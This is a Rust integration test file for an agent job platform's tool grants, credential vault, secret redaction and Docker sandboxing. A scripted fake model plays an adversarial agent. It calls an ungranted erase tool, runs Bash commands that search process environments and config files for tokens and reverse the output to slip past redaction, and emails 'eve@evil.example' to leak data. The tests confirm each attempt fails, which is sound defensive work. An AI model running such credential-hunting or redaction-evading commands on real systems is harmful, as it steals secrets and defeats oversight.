//! Tools for jobs: MCP servers from the registry granted to runs, with their credentials from
//! the vault. The real CLI, driven by the fake model, starts a real Python MCP server (the `mcp`
//! SDK 2, `MCPServer`) and calls its tools.

use std::path::Path;
use std::time::Duration;

use autopilot_tests::components;
use autopilot_tests::fake_anthropic::Reply;
use autopilot_tests::harness::TestServer;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

const RUN_TIMEOUT: Duration = Duration::from_secs(90);
const SECRET: &str = "s3cret-notes-token-42";

/// A stdio MCP server with a tool that reads (and answers with) its credential, and one that
/// would erase notes by writing a marker file.
const NOTES_SERVER: &str = r#"
import os, sys
from mcp.server.mcpserver import MCPServer

server = MCPServer("notes")

@server.tool()
def lookup_note(topic: str) -> str:
    """Looks a note up."""
    return f"note on {topic}; called with token {os.environ.get('NOTES_TOKEN', '<none>')}"

@server.tool()
def erase_notes() -> str:
    """Erases every note."""
    open(sys.argv[1], "w").write("erased")
    return "erased"

server.run()
"#;

async fn start() -> Option<(
    TestServer,
    autopilot_tests::fake_anthropic::FakeAnthropic,
    std::path::PathBuf,
)> {
    let python = components::mcp_python()?;
    let (server, fake) = super::claude::start().await?;
    Some((server, fake, python))
}

async fn register_notes(server: &TestServer, python: &Path, dir: &Path) -> Value {
    let script = dir.join("notes_server.py");
    std::fs::write(&script, NOTES_SERVER).unwrap();
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(json!({
                "name": "notes",
                "description": "the team's notes",
                "transport": {
                    "type": "stdio",
                    "command": python.display().to_string(),
                    "args": [script.display().to_string(), dir.join("erased").display().to_string()],
                    "env": { "NOTES_TOKEN": "${NOTES_TOKEN}" },
                },
                "tools": [{ "name": "lookup_note" }, { "name": "erase_notes" }],
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    body
}

async fn set_credential(server: &TestServer, name: &str, value: &str) -> Value {
    let (status, body) = server
        .call(
            Method::PUT,
            &format!("/api/v1/credentials/{name}"),
            Some(json!({ "value": value })),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    body
}

#[tokio::test]
async fn a_granted_server_gets_its_credential_and_the_value_is_redacted_from_the_run() {
    let Some((server, fake, python)) = start().await else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let registered = register_notes(&server, &python, dir.path()).await;
    assert_eq!(registered["missing_credentials"], json!(["NOTES_TOKEN"]));
    let levels: Vec<(&str, &str)> = registered["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| (t["name"].as_str().unwrap(), t["access"].as_str().unwrap()))
        .collect();
    assert_eq!(
        levels,
        [("lookup_note", "read"), ("erase_notes", "dangerous")]
    );

    // Write-only: the answer and the list carry a fingerprint, never the value.
    let stored = set_credential(&server, "NOTES_TOKEN", SECRET).await;
    assert!(stored["fingerprint"]
        .as_str()
        .unwrap()
        .starts_with("hmac-sha256:"));
    let listed = server.get("/api/v1/credentials").await;
    assert!(!listed.to_string().contains(SECRET), "{listed}");
    assert_eq!(listed["credentials"][0]["last_used_at"], Value::Null);
    assert!(
        !server.store_contains(SECRET).await,
        "the store holds the value in plain text"
    );

    fake.push(Reply::tool_use(
        "mcp__notes__lookup_note",
        json!({ "topic": "release" }),
    ));
    fake.push(Reply::tool_use("mcp__notes__erase_notes", json!({})));
    fake.push(Reply::text(format!("Done; the token was {SECRET}.")));
    let job = server
        .create_job(json!({
            "name": "notes reader",
            "prompt": "Look the release note up.",
            "servers": [{ "server": "notes", "access": "admin" }],
        }))
        .await;
    assert_eq!(job["servers"][0]["access"], "admin", "{job:#}");
    let run = server.trigger(job["id"].as_str().unwrap()).await;
    let run_id = run["id"].as_str().unwrap();
    let run = server.wait_until_finished(run_id, RUN_TIMEOUT).await;
    assert_eq!(run["status"], "succeeded", "{run:#}");

    let events = server.events(run_id).await;
    let everything = format!("{run} {}", Value::Array(events.clone()));
    assert!(
        !everything.contains(SECRET),
        "the credential leaked: {everything}"
    );
    // The server ran with its credential: its answer came back, redacted.
    let result = events
        .iter()
        .find(|e| e["kind"] == "tool_result" && e["data"].to_string().contains("note on release"))
        .unwrap_or_else(|| panic!("no result of lookup_note in {events:#?}"));
    assert!(
        result["data"]
            .to_string()
            .contains("[redacted NOTES_TOKEN]"),
        "{result}"
    );
    assert!(run["result"]
        .as_str()
        .unwrap()
        .contains("[redacted NOTES_TOKEN]"));
    // What the run was granted is on record; the dangerous tool was not granted and did not run.
    let granted = events
        .iter()
        .find(|e| e["kind"] == "lifecycle" && e["data"]["step"] == "tools_granted")
        .expect("tools_granted event");
    assert_eq!(granted["data"]["servers"], json!(["notes"]));
    assert_eq!(
        granted["data"]["allowed_tools"],
        json!(["mcp__notes__lookup_note"])
    );
    assert_eq!(
        granted["data"]["disallowed_tools"],
        json!(["mcp__notes__erase_notes"])
    );
    assert!(
        !dir.path().join("erased").exists(),
        "a tool outside the grant ran"
    );
    let init = events.iter().find(|e| e["kind"] == "system_init").unwrap();
    assert!(
        init["data"]["mcp_servers"]
            .to_string()
            .contains("connected"),
        "{init}"
    );

    // Under the guard the server's answer reached the model already redacted, and the tool
    // outside the grant was not even listed.
    let to_model = serde_json::to_string(
        &fake
            .requests()
            .iter()
            .flat_map(|request| request.tool_results())
            .collect::<Vec<_>>(),
    )
    .unwrap();
    assert!(to_model.contains("[redacted NOTES_TOKEN]"), "{to_model}");
    assert!(
        !to_model.contains(SECRET),
        "the model read the credential: {to_model}"
    );
    let offered = init["data"]["tools"].to_string();
    assert!(offered.contains("mcp__notes__lookup_note"), "{offered}");
    assert!(!offered.contains("erase_notes"), "{offered}");

    // The vault notes that a run was given it.
    let listed = server.get("/api/v1/credentials").await;
    assert!(
        listed["credentials"][0]["last_used_at"].is_string(),
        "{listed}"
    );
}

#[tokio::test]
async fn a_run_fails_clearly_when_its_server_cannot_start_or_its_credential_is_gone() {
    let Some((server, fake, python)) = start().await else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    register_notes(&server, &python, dir.path()).await;
    fake.set_default(Reply::text("nothing to do"));

    // No credential: the run fails before anything starts, naming it.
    let job = server
        .create_job(json!({
            "name": "needs a token",
            "prompt": "Look a note up.",
            "servers": [{ "server": "notes" }],
        }))
        .await;
    let run = server.trigger(job["id"].as_str().unwrap()).await;
    let run = server
        .wait_until_finished(run["id"].as_str().unwrap(), RUN_TIMEOUT)
        .await;
    assert_eq!(run["status"], "failed", "{run:#}");
    let error = run["error"].as_str().unwrap();
    assert!(
        error.contains("`NOTES_TOKEN`") && error.contains("set_credential"),
        "{error}"
    );

    // A server whose program does not speak MCP: the CLI reports it failed, and so does the run.
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(json!({
                "name": "broken",
                "transport": { "type": "stdio", "command": "/bin/false" },
                "tools": [{ "name": "anything" }],
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let job = server
        .create_job(json!({
            "name": "broken server",
            "prompt": "Use the broken server.",
            "servers": [{ "server": "broken" }],
        }))
        .await;
    let run = server.trigger(job["id"].as_str().unwrap()).await;
    let run = server
        .wait_until_finished(run["id"].as_str().unwrap(), RUN_TIMEOUT)
        .await;
    assert_eq!(run["status"], "failed", "{run:#}");
    let error = run["error"].as_str().unwrap();
    assert!(error.contains("`broken` (failed)"), "{error}");

    // A server deleted after the job was saved: the run names it.
    let (status, _) = server
        .call(Method::DELETE, "/api/v1/servers/broken", None)
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let run = server.trigger(job["id"].as_str().unwrap()).await;
    let run = server
        .wait_until_finished(run["id"].as_str().unwrap(), RUN_TIMEOUT)
        .await;
    assert_eq!(run["status"], "failed", "{run:#}");
    assert!(
        run["error"].as_str().unwrap().contains("`broken`"),
        "{run:#}"
    );
}

/// The registry and the vault refuse what is wrong with a message naming the field, on the API
/// and through MCP, and keep values out of every answer.
#[tokio::test]
async fn tools_api_names_what_is_wrong() {
    let server = TestServer::builder().start().await;
    let expect_invalid = |status: StatusCode, body: &Value, field: &str| {
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
        assert_eq!(body["error"]["field"], field, "{body}");
    };
    let server_with = |transport: Value| json!({ "name": "crm", "transport": transport, "tools": [{ "name": "list_contacts" }] });
    // A secret in plain text is refused.
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(server_with(json!({ "type": "http", "url": "https://crm.example/mcp", "headers": { "Authorization": "Bearer abc" } }))),
        )
        .await;
    expect_invalid(status, &body, "transport.headers.Authorization");
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(json!({ "name": "CRM", "transport": { "type": "http", "url": "https://x" }, "tools": [{ "name": "a" }] })),
        )
        .await;
    expect_invalid(status, &body, "name");
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(server_with(json!({ "type": "ftp", "url": "x" }))),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(server_with(json!({ "type": "http", "url": "https://crm.example/mcp", "headers": { "Authorization": "Bearer ${CRM_TOKEN}" } }))),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(server_with(
                json!({ "type": "http", "url": "https://crm.example/mcp" }),
            )),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");

    // Grants name registered servers, and only claude runs take them.
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/jobs",
            Some(json!({ "name": "j", "prompt": "p", "servers": [{ "server": "nope" }] })),
        )
        .await;
    expect_invalid(status, &body, "servers[0].server");
    assert!(
        body["error"]["message"].as_str().unwrap().contains("crm"),
        "{body}"
    );
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/jobs",
            Some(json!({ "name": "j", "kind": "shell", "command": "true", "servers": [{ "server": "crm" }] })),
        )
        .await;
    expect_invalid(status, &body, "servers");
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/jobs",
            Some(json!({ "name": "j", "prompt": "p", "servers": [{ "server": "crm", "access": "root" }] })),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");

    // Credentials: names are checked; values never come back.
    let (status, body) = server
        .call(
            Method::PUT,
            "/api/v1/credentials/crm-token",
            Some(json!({ "value": "x" })),
        )
        .await;
    expect_invalid(status, &body, "name");
    let stored = set_credential(&server, "CRM_TOKEN", "first-value-123").await;
    let again = set_credential(&server, "CRM_TOKEN", "first-value-123").await;
    assert_eq!(stored["fingerprint"], again["fingerprint"]);
    let changed = set_credential(&server, "CRM_TOKEN", "second-value-456").await;
    assert_ne!(stored["fingerprint"], changed["fingerprint"]);
    let crm = server.get("/api/v1/servers/crm").await;
    assert_eq!(crm["missing_credentials"], json!([]), "{crm}");

    // Through MCP the same, with the value nowhere in the answer.
    let call_tool = |name: &str, arguments: Value| {
        let body = json!({ "jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": { "name": name, "arguments": arguments } });
        server
            .client
            .post(format!("{}/mcp", server.base_url))
            .bearer_auth(autopilot_tests::harness::ADMIN_TOKEN)
            .header("accept", "application/json, text/event-stream")
            .header("mcp-protocol-version", "2025-06-18")
            .json(&body)
            .send()
    };
    let response = call_tool(
        "set_credential",
        json!({ "name": "MCP_SET", "value": "value-from-mcp-789" }),
    )
    .await
    .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let text = response.text().await.unwrap();
    assert!(
        text.contains("hmac-sha256:") && !text.contains("value-from-mcp-789"),
        "{text}"
    );
    let text = call_tool("list_servers", json!({}))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(text.contains("list_contacts"), "{text}");
    assert!(!server.store_contains("value-from-mcp-789").await);

    let (status, _) = server
        .call(Method::DELETE, "/api/v1/credentials/CRM_TOKEN", None)
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, _) = server
        .call(Method::DELETE, "/api/v1/credentials/CRM_TOKEN", None)
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

/// On the Docker executor the server starts inside the run's container (from the run image's
/// Python), its configuration mounted read-only, with the same grant and redaction.
#[tokio::test]
async fn a_granted_server_runs_in_the_run_container_with_its_credential() {
    let Some(_docker) = components::docker_engine().await else {
        return;
    };
    if components::docker_executor("tools-e2e-probe")
        .await
        .is_none()
    {
        return;
    }
    let fake = autopilot_tests::fake_anthropic::FakeAnthropic::start()
        .await
        .expect("fake API");
    let server = TestServer::builder()
        .docker()
        .model_api(&fake.base_url())
        .kill_grace(Duration::from_secs(1))
        .start()
        .await;
    set_credential(&server, "NOTES_TOKEN", SECRET).await;
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(json!({
                "name": "notes",
                "transport": {
                    "type": "stdio",
                    "command": "python3",
                    "args": ["/workspace/notes_server.py", "/workspace/erased"],
                    "env": { "NOTES_TOKEN": "${NOTES_TOKEN}" },
                },
                "tools": [{ "name": "lookup_note" }, { "name": "erase_notes" }],
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let job = server
        .create_job(json!({
            "name": "notes in a container",
            "prompt": "Look the release note up.",
            "allowed_tools": ["Bash"],
            "servers": [{ "server": "notes", "access": "write" }],
        }))
        .await;
    let workspace = server.workspace_of(&job);
    std::fs::create_dir_all(&workspace).unwrap();
    std::fs::write(workspace.join("notes_server.py"), NOTES_SERVER).unwrap();
    fake.push(Reply::tool_use(
        "mcp__notes__lookup_note",
        json!({ "topic": "containers" }),
    ));
    fake.push(Reply::tool_use("mcp__notes__erase_notes", json!({})));
    // The run's Bash looks for the credential in the configuration's directory and in every
    // process's environment (the Python server's among them), printing what it finds reversed,
    // which the worker's redaction does not recognise.
    let snoop = "{ cat /run/autopilot-mcp/* 2>&1; for f in /proc/[0-9]*/environ; do \
                 echo \"== $f\"; tr '\\0' '\\n' < \"$f\" 2>&1; done; } | rev; \
                 echo left: $(ls /run/autopilot-mcp)";
    fake.push(Reply::tool_use(
        "Bash",
        json!({ "command": snoop, "description": "look for the token" }),
    ));
    fake.push(Reply::text("Done."));
    let run = server.trigger(job["id"].as_str().unwrap()).await;
    let run_id = run["id"].as_str().unwrap();
    let run = server.wait_until_finished(run_id, RUN_TIMEOUT).await;
    let events = server.events(run_id).await;
    assert_eq!(run["status"], "succeeded", "{run:#} {events:#?}");
    let everything = format!("{run} {}", Value::Array(events.clone()));
    assert!(
        !everything.contains(SECRET),
        "the credential leaked: {everything}"
    );
    let result = events
        .iter()
        .find(|e| {
            e["kind"] == "tool_result" && e["data"].to_string().contains("note on containers")
        })
        .unwrap_or_else(|| panic!("no result of lookup_note in {events:#?}"));
    assert!(
        result["data"]
            .to_string()
            .contains("[redacted NOTES_TOKEN]"),
        "{result}"
    );
    let found = events
        .iter()
        .filter(|e| e["kind"] == "tool_result")
        .map(|e| e["data"]["content"].to_string())
        .next_back()
        .unwrap();
    let reversed: String = SECRET.chars().rev().collect();
    assert!(
        !found.contains(&reversed),
        "Bash found the credential: {found}"
    );
    assert!(
        found.contains("=EMOH"),
        "the probe read other environments: {found}"
    );
    assert!(found.contains("Permission denied"), "{found}");
    assert!(found.contains("left: mcp.json"), "{found}");
    assert!(
        !workspace.join("erased").exists(),
        "a tool outside the grant ran"
    );
    assert_eq!(
        events
            .iter()
            .find(|e| e["data"]["step"] == "started")
            .unwrap()["data"]["executor"],
        "docker"
    );
}

/// A real SMTP server (aiosmtpd) on loopback that keeps what it receives in a Maildir.
struct SmtpServer {
    port: u16,
    maildir: tempfile::TempDir,
    _process: tokio::process::Child,
}

impl SmtpServer {
    async fn start(python: &Path) -> Self {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let maildir = tempfile::tempdir().unwrap();
        let process = tokio::process::Command::new(python)
            .args(["-m", "aiosmtpd", "-n", "-l", &format!("127.0.0.1:{port}")])
            .args(["-c", "aiosmtpd.handlers.Mailbox"])
            .arg(maildir.path().join("mail"))
            .kill_on_drop(true)
            .spawn()
            .expect("start aiosmtpd");
        for _ in 0..100 {
            if tokio::net::TcpStream::connect(("127.0.0.1", port))
                .await
                .is_ok()
            {
                return Self {
                    port,
                    maildir,
                    _process: process,
                };
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("aiosmtpd did not listen on port {port}");
    }

    /// Every message received, as text.
    fn messages(&self) -> Vec<String> {
        let new = self.maildir.path().join("mail/new");
        let Ok(entries) = std::fs::read_dir(new) else {
            return Vec::new();
        };
        entries
            .map(|entry| std::fs::read_to_string(entry.unwrap().path()).unwrap())
            .collect()
    }
}

/// The fixed `email` server: the real CLI sends a summary with an attachment to an allowed
/// recipient through a real SMTP server; a recipient outside the allowlist gets nothing.
#[tokio::test]
async fn the_email_server_sends_to_allowed_recipients_only() {
    let Some(python) = components::mcp_python() else {
        return;
    };
    let Some(fixed_servers) = components::fixed_servers_bin() else {
        return;
    };
    let Some(claude) = components::claude_bin() else {
        return;
    };
    let fake = autopilot_tests::fake_anthropic::FakeAnthropic::start()
        .await
        .expect("fake API");
    let server = TestServer::builder()
        .claude_bin(claude)
        .fixed_servers_bin(fixed_servers)
        .model_api(&fake.base_url())
        .start()
        .await;
    let smtp = SmtpServer::start(&python).await;
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(json!({
                "name": "email",
                "transport": {
                    "type": "fixed",
                    "server": "email",
                    "env": {
                        "EMAIL_SMTP_URL": format!("smtp://127.0.0.1:{}", smtp.port),
                        "EMAIL_FROM": "Autopilot <bot@example.com>",
                        "EMAIL_ALLOWED_RECIPIENTS": "ana@example.com",
                    },
                },
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let tools: Vec<(&str, &str)> = body["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| (t["name"].as_str().unwrap(), t["access"].as_str().unwrap()))
        .collect();
    assert_eq!(
        tools,
        [("send_email", "write"), ("list_email_accounts", "read")]
    );

    let job = server
        .create_job(json!({
            "name": "sprint summary",
            "prompt": "Summarise the sprint and email it to Ana.",
            "servers": [{ "server": "email", "access": "write" }],
        }))
        .await;
    let workspace = server.workspace_of(&job);
    std::fs::create_dir_all(&workspace).unwrap();
    std::fs::write(workspace.join("summary.md"), "# Sprint 42\nAll green.\n").unwrap();
    fake.push(Reply::tool_use(
        "mcp__email__send_email",
        json!({
            "to": ["Ana <ana@example.com>"],
            "subject": "Sprint 42 summary",
            "text": "All green; the summary is attached.",
            "attachments": ["summary.md"],
        }),
    ));
    fake.push(Reply::tool_use(
        "mcp__email__send_email",
        json!({ "to": ["eve@evil.example"], "subject": "Leak", "text": "psst" }),
    ));
    fake.push(Reply::text("Sent the summary to Ana."));
    let run = server.trigger(job["id"].as_str().unwrap()).await;
    let run_id = run["id"].as_str().unwrap();
    let run = server.wait_until_finished(run_id, RUN_TIMEOUT).await;
    let events = server.events(run_id).await;
    assert_eq!(run["status"], "succeeded", "{run:#} {events:#?}");

    let messages = smtp.messages();
    assert_eq!(messages.len(), 1, "{messages:#?}");
    let message = &messages[0];
    assert!(message.contains("Subject: Sprint 42 summary"), "{message}");
    assert!(message.contains("ana@example.com"), "{message}");
    assert!(message.contains("filename=\"summary.md\""), "{message}");
    assert!(!message.contains("evil"), "{message}");
    let results: Vec<&Value> = events
        .iter()
        .filter(|e| e["kind"] == "tool_result")
        .collect();
    assert_eq!(results.len(), 2, "{events:#?}");
    assert_eq!(results[0]["data"]["is_error"], false, "{:#}", results[0]);
    assert!(
        results[0]["data"].to_string().contains("message 1 of 10"),
        "{:#}",
        results[0]
    );
    assert_eq!(results[1]["data"]["is_error"], true, "{:#}", results[1]);
    assert!(
        results[1]["data"]
            .to_string()
            .contains("may not receive mail"),
        "{:#}",
        results[1]
    );
}

/// On the Docker executor a fixed server's settings reach it in a file it deletes once read,
/// and it runs from an execute-only program: the run's Bash finds the credential neither in the
/// configuration's directory nor in any process's environment.
#[tokio::test]
async fn the_runs_bash_cannot_read_a_fixed_servers_credential_in_a_container() {
    let Some(_docker) = components::docker_engine().await else {
        return;
    };
    if components::docker_executor("tools-e2e-probe")
        .await
        .is_none()
    {
        return;
    }
    let fake = autopilot_tests::fake_anthropic::FakeAnthropic::start()
        .await
        .expect("fake API");
    let server = TestServer::builder()
        .docker()
        .model_api(&fake.base_url())
        .kill_grace(Duration::from_secs(1))
        .start()
        .await;
    let password = "smtp-pass-4e6f1b9d";
    set_credential(&server, "SMTP_PASSWORD", password).await;
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(json!({
                "name": "email",
                "transport": {
                    "type": "fixed",
                    "server": "email",
                    "env": {
                        // Never connected to: the run only lists the accounts.
                        "EMAIL_SMTP_URL": "smtp://bot:${SMTP_PASSWORD}@192.0.2.1:25",
                        "EMAIL_FROM": "Autopilot <bot@example.com>",
                        "EMAIL_ALLOWED_RECIPIENTS": "*@example.com",
                    },
                },
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let job = server
        .create_job(json!({
            "name": "snooper",
            "prompt": "Find the SMTP password.",
            "allowed_tools": ["Bash"],
            "servers": [{ "server": "email", "access": "write" }],
        }))
        .await;
    // Everything found is printed reversed, which the worker's redaction does not recognise:
    // a credential that was found would show here.
    let snoop = "{ ls -la /run/autopilot-mcp; cat /run/autopilot-mcp/* 2>&1; \
                 for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do \
                 echo \"== $f\"; tr '\\0' '\\n' < \"$f\" 2>&1; done; } | rev; \
                 echo left: $(ls /run/autopilot-mcp)";
    fake.push(Reply::tool_use(
        "mcp__email__list_email_accounts",
        json!({}),
    ));
    fake.push(Reply::tool_use(
        "Bash",
        json!({ "command": snoop, "description": "look for the password" }),
    ));
    fake.push(Reply::text("Found nothing."));
    let run = server.trigger(job["id"].as_str().unwrap()).await;
    let run_id = run["id"].as_str().unwrap();
    let run = server.wait_until_finished(run_id, RUN_TIMEOUT).await;
    let events = server.events(run_id).await;
    assert_eq!(run["status"], "succeeded", "{run:#} {events:#?}");
    let results: Vec<String> = events
        .iter()
        .filter(|e| e["kind"] == "tool_result")
        .map(|e| e["data"]["content"].to_string())
        .collect();
    assert_eq!(results.len(), 2, "{events:#?}");
    assert!(
        results[0].contains("bot@example.com"),
        "the server got its settings: {}",
        results[0]
    );
    let found = &results[1];
    // The probe works: it read the environment of the run's other processes (`HOME=`, reversed),
    // but not the server's.
    assert!(found.contains("=EMOH"), "{found}");
    assert!(found.contains("Permission denied"), "{found}");
    let reversed: String = password.chars().rev().collect();
    assert!(
        !found.contains(&reversed),
        "Bash found the credential: {found}"
    );
    assert!(!found.contains(password), "{found}");
    assert!(
        found.contains("left: mcp.json"),
        "the settings file was deleted once read: {found}"
    );
}

/// A tool bundle carries grants and built-in tools to the jobs given it; it cannot be deleted
/// while a job names it.
#[tokio::test]
async fn a_bundle_gives_its_grants_and_tools_to_the_jobs_given_it() {
    let Some((server, fake, python)) = start().await else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    register_notes(&server, &python, dir.path()).await;
    set_credential(&server, "NOTES_TOKEN", SECRET).await;
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/bundles",
            Some(json!({ "name": "note-taking", "servers": [{ "server": "nope" }] })),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(body["error"]["field"], "servers[0].server", "{body}");
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/bundles",
            Some(json!({
                "name": "note-taking",
                "description": "read the team's notes",
                "servers": [{ "server": "notes" }],
                "tools": ["Bash(echo:*)"],
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/jobs",
            Some(json!({ "name": "j", "prompt": "p", "bundles": ["missing"] })),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(body["error"]["field"], "bundles[0]", "{body}");

    let job = server
        .create_job(json!({ "name": "bundled", "prompt": "Look the release note up." }))
        .await;
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/bundles/note-taking/assign",
            Some(json!({ "job": "bundled" })),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["bundles"], json!(["note-taking"]), "{body}");

    fake.push(Reply::tool_use(
        "mcp__notes__lookup_note",
        json!({ "topic": "bundles" }),
    ));
    fake.push(Reply::tool_use(
        "Bash",
        json!({ "command": "echo from-bundle", "description": "echo" }),
    ));
    fake.push(Reply::text("Done."));
    let run = server.trigger(job["id"].as_str().unwrap()).await;
    let run_id = run["id"].as_str().unwrap();
    let run = server.wait_until_finished(run_id, RUN_TIMEOUT).await;
    let events = server.events(run_id).await;
    assert_eq!(run["status"], "succeeded", "{run:#} {events:#?}");
    let granted = events
        .iter()
        .find(|e| e["data"]["step"] == "tools_granted")
        .expect("tools_granted");
    assert_eq!(
        granted["data"]["allowed_tools"],
        json!(["Bash(echo:*)", "mcp__notes__lookup_note"]),
        "{granted}"
    );
    let results: Vec<String> = events
        .iter()
        .filter(|e| e["kind"] == "tool_result")
        .map(|e| e["data"].to_string())
        .collect();
    assert!(results[0].contains("note on bundles"), "{results:?}");
    assert!(results[1].contains("from-bundle"), "{results:?}");

    // Still given to the job: not deleted.
    let (status, body) = server
        .call(Method::DELETE, "/api/v1/bundles/note-taking", None)
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert!(body.to_string().contains("job `bundled`"), "{body}");
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/bundles/note-taking/assign",
            Some(json!({ "job": "bundled", "remove": true })),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(
        body.get("bundles").is_none() || body["bundles"] == json!([]),
        "{body}"
    );
    let (status, _) = server
        .call(Method::DELETE, "/api/v1/bundles/note-taking", None)
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
}
